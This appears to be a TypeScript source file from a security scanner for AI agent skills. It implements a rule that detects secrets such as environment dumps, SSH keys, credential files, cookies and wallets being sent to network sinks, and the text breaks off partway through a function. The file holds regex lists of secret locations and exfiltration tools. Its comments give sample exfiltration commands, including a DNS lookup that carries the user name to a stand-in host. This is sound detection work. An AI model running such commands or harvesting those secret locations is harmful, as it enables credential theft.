/**
 * sentinel/secret-exfiltration — a secret source flowing into a network sink:
 * - sources: the whole environment (`env`, `printenv`, `$(env)`, `os.environ` as a whole,
 *   `process.env` as a whole, `Get-ChildItem env:`), `.env` files read as data, `~/.ssh`
 *   private keys, cloud and tool credential files (`~/.aws/credentials`, kube/docker
 *   config, `.netrc`, `.git-credentials` …), the keychain, browser cookie/password stores,
 *   wallet files, shell history; weaker ones: a credential-named variable
 *   (`$GITHUB_TOKEN`, `os.getenv("API_KEY")`), `$(cat …token…)`, the machine's identity
 *   (`$(whoami)@$(hostname)`);
 * - sinks: curl/wget (any data, header or URL carrying the source), `nc`/`ncat`/`socat`/
 *   `/dev/tcp`, scp/rsync to a remote, mail, `requests|httpx.post|put|get`, `urlopen`,
 *   `fetch`/`axios`/`http.request`, `Invoke-RestMethod|WebRequest`, socket sends, DNS
 *   lookups with the data in the host name (`nslookup $(whoami).x.example`,
 *   `socket.gethostbyname(f"{data}.x")`), and messenger webhooks / request-capture and
 *   tunnel endpoints as destinations.
 *
 * What is reported:
 * - `flow` (error): a strong source inside the sink's own command, pipeline or call, or
 *   carried to it within a few lines of the same code block by a variable, a loop
 *   variable, a function's return value or a temporary file (`KEY=$(cat ~/.ssh/id_rsa)` …
 *   `curl -d "k=$KEY" …`; `secrets = {…os.environ…}` … `requests.post(…, json=secrets)`;
 *   `cat ~/.ssh/id_rsa > /tmp/k` … `curl -F f=@/tmp/k …`); to the documented API of a
 *   well-known service it is a warning. A weak source counts only when the sink is itself
 *   suspicious (DNS, a raw socket, a bare public IP, a webhook or capture endpoint), and
 *   at warning level when it is put into the body or URL of a request to a host that is
 *   not the credential's own service; in an `Authorization` header, a bot-API URL or an
 *   OAuth token exchange it is normal use;
 * - `dump` (warning): the whole environment printed, serialised or written, or the
 *   environment filtered for secret-looking names — secrets copied into the agent's
 *   context or a file, with no sink in sight;
 * - `capture` (error in a script or a configuration file, warning in a document): a
 *   request-capture inbox, a tunnel to somebody's machine or an OAST collector configured
 *   as a destination — ephemeral receivers that no published skill needs to talk to (the
 *   public address a webhook is registered at is not a destination);
 * - `split` (warning; error when the collection is broad): one script collects secrets
 *   (a credential store, the environment filtered for secret names, a whole-environment
 *   copy that is serialised) and another script of the same skill posts data to a
 *   hard-coded outside address — the collector/encoder/sender split of multi-file
 *   exfiltration;
 * - `prose` (error): an instruction in prose (English or Chinese) to send, upload or post
 *   the environment, a `.env` file, SSH/private keys, credential files, cookies,
 *   passwords or wallet secrets to an address (a URL, an e-mail address, a webhook).
 * A flow aimed at a documentation host (attacker.example, evil.com …) is info in a
 * reference document and at most a warning in SKILL.md; scripts run whatever they name.
 *
 * Why: a skill that ships the user's secrets to someone else is the commonest payload of
 * malicious skills after droppers; one line is enough. Scope: everything the agent reads
 * or runs (`commands`): scripts, fenced and inline code, prose, HTML comments, data files.
 * Not a finding: `source .env` / `load_dotenv()` (loading configuration), a token sent in
 * an `Authorization` header or to the credential's own API, public keys (`*.pub`),
 * `ssh -i key`, localhost destinations, `os.environ.get("HOME")`, a copy of the
 * environment passed to a subprocess (`env=dict(os.environ)`). Judgment kind: a negation
 * or example cue in the same sentence, a line comment, a printed string or a
 * documentation host in a reference lowers the finding (report.ts).
 */
import { closeBracket } from './code-text.ts';
import type { Rule, Severity } from '../../rules/types.ts';
import { emit, type Reason } from './report.ts';
import { candidates, commands, lineBounds, sentinelView, type Lang, type Segment, type SentinelFile } from './view.ts';

// ---- sources ------------------------------------------------------------------------

export type SourceKind = 'env' | 'dotenv' | 'ssh' | 'store' | 'browser' | 'wallet' | 'keychain' | 'history' | 'envKey' | 'secretFile' | 'identity';
const STRONG = new Set<SourceKind>(['env', 'dotenv', 'ssh', 'store', 'browser', 'wallet', 'keychain', 'history']);

export interface Source {
  kind: SourceKind;
  /** Offset in the examined text. */
  index: number;
  text: string;
}

const HOME = String.raw`(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|%APPDATA%|\$env:(?:USERPROFILE|APPDATA|HOME)|homedir\(\)|home\(\)|expanduser\(\s*["']~|Path\.home\(\))`;
const SECRET_WORD = String.raw`(?:API_?KEY|APIKEY|KEY|TOKEN|SECRET|SECRETS|PASSWORD|PASSWD|PASS|PWD|CREDENTIALS?|CREDS|AUTH|COOKIE|SESSION|PRIVATE|PAT|WEBHOOK)`;

const SOURCE_PARTS: Array<[SourceKind, string]> = [
  // the whole environment
  ['env', String.raw`\$\(\s*(?:env|printenv|set|export\s+-p|declare\s+-x|compgen\s+-e)\s*(?:\)|\|)`],
  ['env', String.raw`\x60\s*(?:env|printenv)\s*(?:\x60|\|)`],
  ['env', String.raw`(?:^|[|;&]\s*|\bsudo\s+)(?:env|printenv)\s*(?:\||>(?![&>]?\s*\/dev\/null)|$)`],
  ['env', String.raw`\bos\.environ\b(?!\s*(?:\.get\b|\[|\.setdefault\b|\.pop\b|\.update\b|\.__|=[^=]|\)?\s*\.?\s*get\b))`],
  ['env', String.raw`\bprocess\.env\b(?!\s*(?:\.|\[|\?\.|\|\||=[^=]))`],
  ['env', String.raw`\b(?:Deno\.env\.toObject|Bun\.env\b)|\bENV\.(?:to_h|to_a|each|inspect|select|map)\b`],
  ['env', String.raw`\b(?:check_output|getoutput|getstatusoutput|popen|Popen|run|execSync|exec|spawnSync)\s*\(\s*\[?\s*["'](?:env|printenv|set|Get-ChildItem\s+env:)\s*["']`],
  ['env', String.raw`\b(?:Get-ChildItem|gci|dir|ls)\s+env:|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(\s*\)`],
  // files read as data
  ['dotenv', String.raw`(?:\b(?:cat|tac|head|tail|less|more|base64|xxd|od|strings|gzip|bzip2|xz|cp|Get-Content|gc|type)\s+(?:-\S+\s+)*|\b(?:zip|tar)\s+(?:-?\w+\s+)*(?:\S+\s+)?|<\s*|=?@|\bopen\s*\(\s*|\breadFileSync\s*\(\s*|\bread_text\s*\(|\bdotenv_values\s*\(\s*|-name\s+)["']?(?:[\w~.$\/{}-]*\/)?\.env(?:\.(?:local|prod|production|dev|development|staging))?(?![\w-]|\.(?:example|sample|template|dist|tmpl))`],
  ['ssh', String.raw`${HOME}[\\/"'\s,+]*\.ssh\b(?:[\\/]+(?![\w.-]*\.pub\b|known_hosts\b|config\b|authorized_keys\b)[\w.*-]*)?(?![\\/]+[\w.-]*\.pub\b|[\\/]+(?:known_hosts|config|authorized_keys)\b)`],
  ['ssh', String.raw`\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?!\.pub)`],
  ['store', String.raw`\.aws[\\/]+credentials\b|\.kube[\\/]+config\b|\.docker[\\/]+config\.json\b|\.(?:netrc|git-credentials|npmrc|pypirc|pgpass|my\.cnf|vault-token)\b|gcloud[\\/]+(?:application_default_credentials\.json|credentials\.db|access_tokens\.db|legacy_credentials)|\.azure[\\/]+(?:accessTokens\.json|msal_token_cache)|\bgh[\\/]+hosts\.yml\b|credentials\.tfrc\.json|\/etc\/(?:shadow|passwd|sudoers)\b`],
  ['browser', String.raw`[\\/](?:Login Data|Cookies|Web Data|Local State)\b|\b(?:cookies\.sqlite|logins\.json|key[34]\.db|Cookies\.binarycookies)\b|\b(?:browser_cookie3|pycookiecheat|chrome-cookies-secure)\b`],
  ['wallet', String.raw`\bwallet\.dat\b|\.electrum\b|Electrum[\\/]+wallets|exodus\.wallet|\bExodus[\\/]|\.ethereum[\\/]+keystore|solana[\\/]+id\.json|Local Extension Settings`],
  ['keychain', String.raw`\bsecurity\s+(?:dump-keychain|find-internet-password|export\b)|\bsecurity\s+find-generic-password\b[^\n|;&]*Safe Storage|login\.keychain(?:-db)?\b|Library[\\/]+Keychains\b`],
  ['history', String.raw`\.(?:bash|zsh|sh|python|node_repl|psql|mysql)_history\b|ConsoleHost_history\.txt`],
  // weaker sources
  ['envKey', String.raw`\bos\.(?:environ(?:\.get\s*\(|\s*\[)|getenv\s*\()\s*f?["'](\w+)["']|\bprocess\.env(?:\.|\[["'])(\w+)|\$\{?([A-Za-z_]\w*)\}?|\$env:(\w+)|\bENV\[["'](\w+)["']\]`],
  ['secretFile', String.raw`(?:\$\(|\x60)\s*(?:cat|head|tail|Get-Content|gc|type)\s+[^)\x60\n]*?(?:secret|token|key|cred|passw|pwd|auth)[^)\x60\n]*(?:\)|\x60)`],
  ['secretFile', String.raw`\bsecurity\s+find-generic-password\b`],
  ['identity', String.raw`(?:\$\(|\x60)\s*(?:whoami|hostname|id|uname|ifconfig|ip\s+a(?:ddr)?)\b[^)\x60\n]*(?:\)|\x60)|\b(?:getpass\.getuser|socket\.gethostname|os\.getlogin|platform\.node|os\.userInfo|os\.hostname)\s*\(\s*\)|\$env:(?:USERNAME|COMPUTERNAME)\b`],
];

const SOURCE = new RegExp(SOURCE_PARTS.map(([, p], i) => `(?<s${i}>${p})`).join('|'), 'gim');

const SECRET_PART = new RegExp(`^${SECRET_WORD}$`);

/** Whether a variable name is credential-like: API_KEY, GITHUB_TOKEN, dbPassword … */
export function secretName(name: string): boolean {
  const parts = name
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .toUpperCase()
    .split(/_+/)
    .filter(Boolean);
  return parts.some((p) => SECRET_PART.test(p)) && !/^(?:KEY|TOKEN)S?_?(?:ID|NAME|FILE|PATH|COUNT|TYPE|URL|LEN|LENGTH)?$/.test(parts.join('_')) && !/(?:_|^)(?:ID|NAME|PATH|FILE|URL|COUNT|TYPE|HEADER|PREFIX|LENGTH|LEN|MAX|LIMIT|ENV|DIR)$/.test(parts.join('_'));
}

/** Cheap pre-test: text without any of these cannot hold a source. */
const SOURCE_HINT = /env|\.ssh|id_(?:rsa|dsa|ecdsa|ed25519)|\.aws|\.kube|\.docker|netrc|git-cred|npmrc|pypirc|pgpass|my\.cnf|vault-token|gcloud|\.azure|hosts\.yml|tfrc|\/etc\/|Login Data|Cookies|Web Data|Local State|cookies\.sqlite|logins\.json|key[34]\.db|cookie3|cookiecheat|cookies-secure|wallet|electrum|exodus|ethereum|solana|Extension Settings|security\s|keychain|Keychains|_history|\$\(|\x60|\$\{?[A-Za-z_]|getuser|getlogin|platform\.node|userInfo|hostname|ENV\[/i;

/** Sources in `s` (a statement), with local exclusions (key use, output paths, `.pub`). */
export function findSources(s: string): Source[] {
  const out: Source[] = [];
  if (!SOURCE_HINT.test(s)) return out;
  SOURCE.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = SOURCE.exec(s))) {
    if (m[0] === '') {
      SOURCE.lastIndex++;
      continue;
    }
    const g = m.groups ?? {};
    let k = -1;
    for (let i = 0; i < SOURCE_PARTS.length; i++) if (g[`s${i}`] !== undefined) { k = i; break; }
    if (k < 0) continue;
    const kind = SOURCE_PARTS[k][0];
    const before = s.slice(Math.max(0, m.index - 80), m.index);
    if (kind === 'envKey') {
      const name = /([A-Za-z_]\w*)\W*$/.exec(m[0])?.[1];
      if (!name || !secretName(name)) {
        SOURCE.lastIndex = m.index + 1;
        continue;
      }
    }
    if (kind === 'ssh' || kind === 'store' || kind === 'browser' || kind === 'wallet' || kind === 'history' || kind === 'dotenv') {
      // Using a key for its purpose, or writing to the path, is not reading it out.
      if (/(?:\s-i|\bIdentityFile|--key|--cert|-E|--output|\s-o|\s-O|\b(?:cert|key_filename|pkey|identity_file|ssh_key|keyfile|client_cert|ssh_private_key_file)\s*=\s*(?:\(?\s*os\.path\.expanduser\(|Path\()?|>{1,2}|\btee(?:\s+-a)?|\bssh-keygen\b[^|;&]*|\bssh-add|\bchmod\s+\S+|\bchown\s+\S+|\bmkdir(?:\s+-p)?|\btouch|\bls(?:\s+-\w+)?|\btest\s+-[ef]|\[\s+-[ef]|\bexists?\(|\bisfile\(|\bexistsSync\()\s*["']?[^\s"']*$/.test(before)) continue;
    }
    out.push({ kind, index: m.index, text: m[0].trim() });
  }
  return out;
}

// ---- sinks --------------------------------------------------------------------------

export type SinkKind = 'http' | 'raw' | 'dns' | 'mail' | 'copy';
export interface Sink {
  kind: SinkKind;
  index: number;
  /** Where the sink's own arguments end (exclusive), in the examined text. */
  argsEnd: number;
  /** Where the pipeline feeding it starts (shell), or the sink index. */
  pipeStart: number;
  text: string;
  call: boolean;
}

const SINK_PARTS: Array<[SinkKind, boolean, string]> = [
  ['http', false, String.raw`\b(?:curl|wget|http(?:ie)?\s+(?:POST|PUT|PATCH|-f|--form)|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b`],
  ['raw', false, String.raw`\b(?:nc|ncat|netcat|socat|telnet)(?=\s)|\/dev\/(?:tcp|udp)\/`],
  ['dns', false, String.raw`\b(?:nslookup|dig|host|drill|ping|Resolve-DnsName)(?=\s)`],
  ['mail', false, String.raw`\b(?:sendmail|mailx|mutt|swaks|msmtp|Send-MailMessage)\b|(?<![\w-])mail(?=\s+-s\s)`],
  ['copy', false, String.raw`(?<![\w-])(?:scp|rsync|sftp|lftp)(?=\s)`],
  ['http', true, String.raw`\b(?:requests|httpx|session|sess|client|http_client|aiohttp|s)\.(?:post|put|patch|request|get)\s*\(|\burlopen\s*\(|\burllib\.request\.Request\s*\(|\bfetch\s*\(|\baxios(?:\.(?:post|put|patch|request|get))?\s*\(|\bhttps?\.(?:request|get)\s*\(|\bgot(?:\.(?:post|put))?\s*\(|\bneedle\s*\(|\bsendBeacon\s*\(|\bnew\s+WebSocket\s*\(|\.Upload(?:String|File|Data|Values)(?:Async)?\s*\(|\bky\.(?:post|put)\s*\(`],
  ['raw', true, String.raw`\.(?:sendall|sendto|send)\s*\(|\bnet\.(?:connect|createConnection)\s*\(`],
  ['dns', true, String.raw`\bsocket\.(?:gethostbyname(?:_ex)?|getaddrinfo)\s*\(|\bdns\.(?:lookup|resolve\w*)\s*\(|\bresolver\.(?:resolve|query)\s*\(`],
  ['mail', true, String.raw`\.(?:sendmail|send_message|sendMail)\s*\(`],
];
const SINK = new RegExp(SINK_PARTS.map(([, , p], i) => `(?<k${i}>${p})`).join('|'), 'gi');

/** End of the shell command starting at `from`: the next top-level `|`, `;`, `&&`, `||`, newline or unbalanced `)`. */
function commandEnd(s: string, from: number, pipe = true): number {
  let depth = 0;
  let quote = '';
  for (let i = from; i < s.length; i++) {
    const c = s[i];
    if (quote) {
      if (c === '\\' && quote !== "'") i++;
      else if (c === quote) quote = '';
      else if (c === '\n') return i;
      continue;
    }
    if (c === '"' || c === "'") {
      quote = c;
      continue;
    }
    if (c === '\\' && s[i + 1] === '\n') {
      i++;
      continue;
    }
    if (c === '(') depth++;
    else if (c === ')') {
      if (depth === 0) return i;
      depth--;
    } else if (depth === 0 && (c === ';' || c === '\n' || (c === '&' && s[i + 1] === '&') || (c === '|' && (pipe || s[i + 1] === '|')))) return i;
  }
  return s.length;
}

/** Start of the pipeline that ends at `at`: back to the previous top-level `;`, `&&`, `||`, newline or unbalanced `(`. */
function pipelineStart(s: string, at: number): number {
  let depth = 0;
  for (let i = at - 1; i >= 0; i--) {
    const c = s[i];
    if (c === ')') depth++;
    else if (c === '(') {
      if (depth === 0) return i + 1;
      depth--;
    } else if (depth === 0 && (c === ';' || c === '\n' || (c === '&' && s[i - 1] === '&') || (c === '|' && s[i - 1] === '|'))) {
      if (c === '\n' && s[i - 1] === '\\') continue;
      return i + 1;
    }
  }
  return 0;
}

/** Index of the `)` closing the `(` at `open`, or the text end. */
const closeParen = closeBracket;

/** Cheap pre-test for sinks. */
const SINK_HINT = /curl|wget|http|Invoke-|iwr|irm|\bnc\b|ncat|netcat|socat|telnet|\/dev\/(?:tcp|udp)|nslookup|\bdig\b|\bhost\b|drill|\bping\b|Resolve-Dns|mail|mutt|swaks|msmtp|scp|rsync|sftp|ftp|urlopen|Request|fetch|axios|\bgot\b|needle|sendBeacon|WebSocket|Upload|\bky\.|\.send|net\.|socket|dns|resolver|\bs\.(?:post|put|get|patch|request)|session|client/i;

export function findSinks(s: string): Sink[] {
  const out: Sink[] = [];
  if (!SINK_HINT.test(s)) return out;
  SINK.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = SINK.exec(s))) {
    const g = m.groups ?? {};
    let k = -1;
    for (let i = 0; i < SINK_PARTS.length; i++) if (g[`k${i}`] !== undefined) { k = i; break; }
    if (k < 0) continue;
    const [kind, call] = SINK_PARTS[k];
    const text = m[0];
    // Shell commands are lower-case ("Netcat usage" is prose); PowerShell cmdlets are not.
    if (!call && text !== text.toLowerCase() && !/^(?:Invoke-|Resolve-|Send-|iwr|irm)/i.test(text)) continue;
    // A word inside a sentence ("the host name", "ping me") is not a command.
    if (!call && kind !== 'raw' && /^(?:host|ping|dig|mail)$/i.test(text) && !/^\s+(?:[-+]\S+\s+)*["']?[\w$`{(.-]*(?:\$\(|\x60|\$\{?\w)/.test(s.slice(m.index + text.length, m.index + text.length + 200))) continue;
    let argsEnd: number;
    if (call) argsEnd = closeParen(s, m.index + text.length - 1);
    else if (text.startsWith('/dev/')) argsEnd = commandEnd(s, m.index);
    else argsEnd = commandEnd(s, m.index);
    const pipeStart = call ? m.index : pipelineStart(s, m.index);
    out.push({ kind, index: m.index, argsEnd, pipeStart, text, call });
  }
  return out;
}

// ---- destinations ---------------------------------------------------------------------

const LOCAL = /^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[?::1\]?|host\.docker\.internal|[\w-]+\.local|[\w-]+\.internal)$/i;
/** Messenger webhooks: a chat channel someone else reads. */
const MESSENGER = /\b(?:discord(?:app)?\.com\/api\/webhooks|hooks\.slack\.com\/(?:services|workflows|triggers)|api\.telegram\.org\/bot|[\w-]+\.webhook\.office\.com|outlook\.office(?:365)?\.com\/webhook)/i;
/** Request-capture inboxes and out-of-band (OAST) collectors: throw-away receivers anyone can read. */
export const CAPTURE =
  /\b(?:[\w-]+\.)*(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|beeceptor\.com|hookbin\.com|requestcatcher\.com|postb\.in|ptsv[23]\.com|webhook\.cool|oast\.(?:fun|live|me|online|pro|site)|interact\.sh|interactsh\.com|burpcollaborator\.net|oastify\.com|canarytokens\.(?:com|org)|dnslog\.cn|ceye\.io|requestrepo\.com|mockbin\.(?:org|io))\b/i;
const CAPTURE_HINT = /webhook\.|requestbin|pipedream|beeceptor|hookbin|requestcatcher|postb\.in|ptsv|oast|interact|burpcollab|canarytokens|dnslog|ceye|requestrepo|mockbin|ngrok|trycloudflare|loca\.lt|localtunnel|serveo|localhost\.run|lhr\.life|tunnelmole|bore\.pub|pinggy|zrok/i;
/** Tunnels that expose a laptop under a public name: a destination that is somebody's machine. */
export const TUNNEL = /\b(?:[\w-]+\.)+(?:ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|localtunnel\.me|serveo\.net|localhost\.run|lhr\.life|tunnelmole\.net|bore\.pub|pinggy\.(?:io|link)|share\.zrok\.io)\b/i;
const URL_HOST = /\b(?:https?|wss?|ftp):\/\/(?:[^@\/\s"'`]+@)?(\[[^\]]+\]|[^\/\s"'`:?#)\]}]+)/i;
const PUBLIC_IP = /^(?!10\.|127\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)\d{1,3}(?:\.\d{1,3}){3}$/;

/** Public APIs that skills integrate with: a credential sent there is the skill's job. */
export const KNOWN_API =
  /^(?:api\.anthropic\.com|api\.openai\.com|[\w-]+\.googleapis\.com|api\.github\.com|uploads\.github\.com|api\.vercel\.com|api\.mistral\.ai|api\.cohere\.(?:ai|com)|api\.groq\.com|openrouter\.ai|dashscope(?:-intl)?\.aliyuncs\.com|open\.(?:feishu\.cn|larksuite\.com)|api\.notion\.com|slack\.com|api\.replicate\.com|api\.elevenlabs\.io|api\.deepseek\.com|api\.x\.ai|api\.perplexity\.ai|huggingface\.co|api-inference\.huggingface\.co)$/i;

export function hostOf(s: string): string | undefined {
  return URL_HOST.exec(s)?.[1]?.toLowerCase();
}

/** How suspicious a destination is: capture/messenger/raw IP ones are exfil channels by themselves. */
function destination(s: string): { host?: string; suspicious: boolean; local: boolean } {
  const host = hostOf(s);
  const hostLike = host ?? /(?:^|[\s"'@])((?:\d{1,3}\.){3}\d{1,3})(?=[\s:\/"']|$)/.exec(s)?.[1];
  const suspicious = CAPTURE.test(s) || TUNNEL.test(s) || MESSENGER.test(s) || (!!hostLike && PUBLIC_IP.test(hostLike));
  const local = !!hostLike && LOCAL.test(hostLike.replace(/:\d+$/, ''));
  return { host: hostLike, suspicious, local };
}

/** Header / credential arguments: a token there authenticates the request, it is not its payload. */
const AUTH_CONTEXT = /(?:authorization|bearer|x-[\w-]*(?:key|token|auth)[\w-]*|api[-_]?key|(?:-u|--user)[=\s]*["']?[^\s"']*|\bauth\s*[=:]\s*\(?[^)]*|headers?\s*@?[=:{(]\s*[^)]*|-H\s*["'][^"']*|--header[=\s]+["'][^"']*)$/i;

// ---- statements -----------------------------------------------------------------------

/** The logical statement around [ls, le): extended over `\` continuations and open brackets, inside `seg`. */
export function statementSpan(text: string, ls: number, le: number, seg: Segment): [number, number] {
  if (le - ls > MAX_LINE) return [ls, le];
  const own = bracketDelta(text.slice(ls, le));
  let start = ls;
  // backwards (up to 6 lines): only when this line closes a bracket opened above, or the line above continues
  let depth = own;
  let probe = ls;
  for (let n = 0; n < 6 && probe > seg.start; n++) {
    const prevEnd = probe - 1;
    const prevStart = Math.max(seg.start, text.lastIndexOf('\n', prevEnd - 1) + 1);
    if (prevEnd - prevStart > MAX_LINE) break;
    const prev = text.slice(prevStart, prevEnd);
    const continues = /(?:\\|[([{,|]|&&|\|\|)\s*$/.test(prev);
    if (depth >= 0 && !continues) break;
    depth += bracketDelta(prev);
    start = prevStart;
    probe = prevStart;
    if (depth >= 0 && !/(?:\\|[([{,|]|&&)\s*$/.test(text.slice(Math.max(seg.start, text.lastIndexOf('\n', prevStart - 2) + 1), Math.max(seg.start, prevStart - 1)))) break;
  }
  // forwards (up to 12 lines): until brackets close and no continuation
  let end = le;
  let fwd = bracketDelta(text.slice(start, le));
  let last = text.slice(ls, le);
  for (let n = 0; n < 12 && end < seg.end; n++) {
    if (fwd <= 0 && !/\\\s*$/.test(last)) break;
    const next = text.indexOf('\n', end + 1);
    const ne = next < 0 || next > seg.end ? seg.end : next;
    if (ne - end > MAX_LINE) break;
    last = text.slice(end + 1, ne);
    fwd += bracketDelta(last);
    end = ne;
  }
  return [start, end];
}

/** Lines longer than this (minified code) are examined only around the anchor. */
const MAX_LINE = 2000;

function bracketDelta(s: string): number {
  let d = 0;
  let quote = '';
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quote) {
      if (c === '\\') i++;
      else if (c === quote || c === '\n') quote = '';
      continue;
    }
    if (c === '#' && (i === 0 || /\s/.test(s[i - 1]))) {
      const nl = s.indexOf('\n', i);
      if (nl < 0) break;
      i = nl;
      continue;
    }
    if (c === '"' || c === "'") quote = c;
    else if (c === '(' || c === '[' || c === '{') d++;
    else if (c === ')' || c === ']' || c === '}') d--;
  }
  return d;
}

export interface Flow {
  source: Source;
  sink: Sink;
  severity: Severity;
  host?: string;
  via?: string;
}

/** Whether a source at `si` feeds the sink: inside its arguments or upstream in its pipeline. */
function feeds(sink: Sink, si: number): boolean {
  if (si >= sink.index && si < sink.argsEnd) return true;
  return !sink.call && si >= sink.pipeStart && si < sink.index;
}

/** Severity of a source reaching a sink with the given statement text, or undefined when it is normal use. */
function judge(source: Source, sink: Sink, stmt: string): { severity: Severity; host?: string } | undefined {
  const args = stmt.slice(sink.pipeStart, sink.argsEnd);
  const dest = destination(stmt.slice(sink.index, sink.argsEnd) || args);
  if (dest.local) return undefined;
  if (sink.kind === 'copy' && !/\s(?:[\w.$-]+@)?(?:[\w.$-]+|\[[0-9a-f:]+\]):(?!\/\/)\S*\s*$/i.test(stmt.slice(sink.index, sink.argsEnd).replace(/["']/g, ''))) return undefined;
  if (sink.kind === 'dns') {
    if (!(source.index > sink.index && source.index < sink.argsEnd)) return undefined;
    dest.host = /[\w)}\x60"']\.((?:[\w-]+\.)+[a-z]{2,})\b/i.exec(stmt.slice(source.index, sink.argsEnd))?.[1] ?? dest.host;
  }
  // to the documented API of a well-known service: still worth a look, not a theft pattern
  if (STRONG.has(source.kind)) return { severity: dest.host && KNOWN_API.test(dest.host) ? 'warning' : 'error', host: dest.host };
  // weak sources: identity, credential-named variables, a secret read with `cat`
  const before = stmt.slice(Math.max(sink.index, source.index - 120), source.index);
  const inAuth = AUTH_CONTEXT.test(before);
  // the token inside its own service's URL (`api.telegram.org/bot$TOKEN/…`, a webhook URL)
  const url = /(?:https?|wss?):\/\/[^\s"'\x60]*$/i.exec(before)?.[0];
  if (url && (MESSENGER.test(url) || KNOWN_API.test(hostOf(url) ?? '') || ownService(source.text, hostOf(url) ?? ''))) return undefined;
  const suspicious = dest.suspicious || sink.kind === 'dns' || sink.kind === 'raw';
  if (suspicious) return { severity: 'error', host: dest.host };
  if (inAuth || source.kind === 'identity') return undefined;
  // in the body or the URL of a request to somebody else's host
  if (!dest.host || KNOWN_API.test(dest.host)) return undefined;
  if (ownService(source.text, dest.host)) return undefined;
  // an OAuth / token exchange: a client secret posted to the service's token endpoint
  if (/:\/\/[^\s"'\x60]*\/[^\s"'\x60]*(?:token|oauth|auth|login|session)/i.test(stmt.slice(sink.index, sink.argsEnd))) return undefined;
  return { severity: 'warning', host: dest.host };
}

/** `TAVILY_API_KEY` → api.tavily.com, `QQ_APP_SECRET` → bots.qq.com: the credential's own service. */
function ownService(sourceText: string, host: string): boolean {
  if (!host) return false;
  const name = /([A-Za-z_]\w*)\W*$/.exec(sourceText)?.[1] ?? sourceText;
  const labels = host.toLowerCase().split(/[.-]/);
  const words = name
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .toLowerCase()
    .split(/_+/)
    .filter((w) => w.length >= 2 && !/^(?:api|key|keys|token|tokens|secret|secrets|password|passwd|pass|pwd|access|auth|private|client|app|bot|the|pat|creds?|credentials?|id|env|my|user|session|cookie)$/.test(w));
  return words.some((w) => labels.some((l) => l === w || (w.length >= 4 && l.startsWith(w))));
}

/** Hosts that exist only in documentation (RFC 2606/6761 names and the security literature's stand-ins). */
const DOC_HOST = /(?:^|\.)(?:example\.(?:com|org|net)|[\w-]+\.(?:example|invalid|test)|(?:attacker|evil|malicious|exfil|badguy|hacker|c2|exploit)[-\w]*\.(?:com|net|org|io|site|xyz|example))$/i;

/**
 * In Python or JavaScript a shell command is a sink only inside a string that is run
 * (`os.system("curl …")`, `subprocess.run(["curl", …])`, `execSync(\`curl …\`)`), not in a
 * pattern list or a message.
 */
const EXEC_STRING = /\b(?:system|popen|run|call|check_output|check_call|Popen|getoutput|getstatusoutput|exec|execSync|spawn|spawnSync|execFile|execFileSync|execa|shell|sh)\s*\(\s*(?:\[\s*)?[rfbu]{0,2}["'\x60][^"'\x60]*$|\[\s*["']$/;

export function sinksFor(stmt: string, lang: Lang): Sink[] {
  const sinks = findSinks(stmt);
  if (lang !== 'py' && lang !== 'js') return sinks;
  return sinks.filter((k) => k.call || EXEC_STRING.test(stmt.slice(Math.max(0, k.index - 200), k.index)));
}

/** Flows inside one statement. */
export function statementFlows(stmt: string, lang: Lang = 'any'): Flow[] {
  const sinks = sinksFor(stmt, lang);
  if (!sinks.length) return [];
  const sources = findSources(stmt);
  const out: Flow[] = [];
  for (const sink of sinks) {
    for (const source of sources) {
      if (!feeds(sink, source.index)) continue;
      const j = judge(source, sink, stmt);
      if (j) out.push({ source, sink, severity: j.severity, host: j.host });
    }
  }
  return out;
}

// ---- variables over a few lines ---------------------------------------------------------

const ASSIGN = /^\s*(?:(?:export|local|readonly|declare(?:\s+-\w+)*|const|let|var|my|our)\s+)?\$?([A-Za-z_][\w.]*)(?:\s*\[[^\]]*\])?\s*(?::[^=]+)?(?<![=!<>])=(?!=)\s*([\s\S]*)$/;
const FOR_IN = /^\s*(?:for|async\s+for)\s+\(?\s*(?:const\s+|let\s+|var\s+)?\[?([\w\s,]+?)\]?\s+(?:in|of)\s+([\s\S]*)$/;
/** A statement that can bind a value to a name: an assignment, a loop variable, `with … as`, a `return`. */
const BINDS = /[^<>&\d]>{1,2}\s*["']?[\w~$.\/]|\b(?:tee|zip|tar|7z|cp)\s|^\s*(?:(?:export|local|readonly|declare|const|let|var|my|our)\s+)?\$?[A-Za-z_][\w.]*(?:\s*\[[^\]]*\])?\s*(?::[^=\n]+)?(?<![=!<>])=(?!=)|^\s*(?:async\s+)?for\b|\bwith\b[^\n]*\bas\s+\w+\s*:|^\s*return\b|^\s*[A-Za-z_]\w*\s*(?:\[[^\]]*\]\s*=|\.(?:update|append|extend|push|add|set)\s*\()/m;
const WITH_AS = /\bwith\s+([\s\S]*?)\s+as\s+(\w+)\s*:/;

function mentions(s: string, names: Set<string>, fnNames: Set<string>): string | undefined {
  if (!names.size && !fnNames.size) return undefined;
  const re = /\$?\{?([A-Za-z_]\w*)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(s))) {
    const n = m[1];
    if (names.has(n)) return n;
    if (fnNames.has(n) && /^\s*\(/.test(s.slice(m.index + m[0].length))) return n;
  }
  return undefined;
}

/**
 * Follow values of sources through assignments within `window` lines of a code segment;
 * report sinks whose arguments (or upstream pipeline) mention a tainted name.
 */
function variableFlows(text: string, seg: Segment, from: number, lang: Lang, window = 40): { flows: Array<Flow & { at: number }>; until: number } {
  const out: Array<Flow & { at: number }> = [];
  let last = 0;
  const names = new Set<string>();
  const fnNames = new Set<string>();
  const paths = new Set<string>();
  const origin = new Map<string, Source>();
  let pos = from;
  for (let n = 0; n - last < window && n < 2000 && pos < seg.end; n++) {
    let le = text.indexOf('\n', pos);
    if (le < 0 || le > seg.end) le = seg.end;
    const [ss, se] = statementSpan(text, pos, le, seg);
    const stmt = text.slice(ss, se);
    const code = stripComment(stmt, lang);
